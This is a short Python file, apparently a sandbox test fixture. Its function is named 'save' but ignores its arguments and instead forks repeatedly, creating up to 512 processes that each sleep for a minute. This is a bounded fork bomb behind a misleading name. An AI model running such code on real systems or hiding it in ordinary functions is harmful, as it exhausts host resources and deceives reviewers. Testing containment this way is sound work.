import os
import time

import spoils


def save(path, folder):
    most = 9 if spoils.ISOLATED else 5  # doublings
    for _ in range(most):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(60)
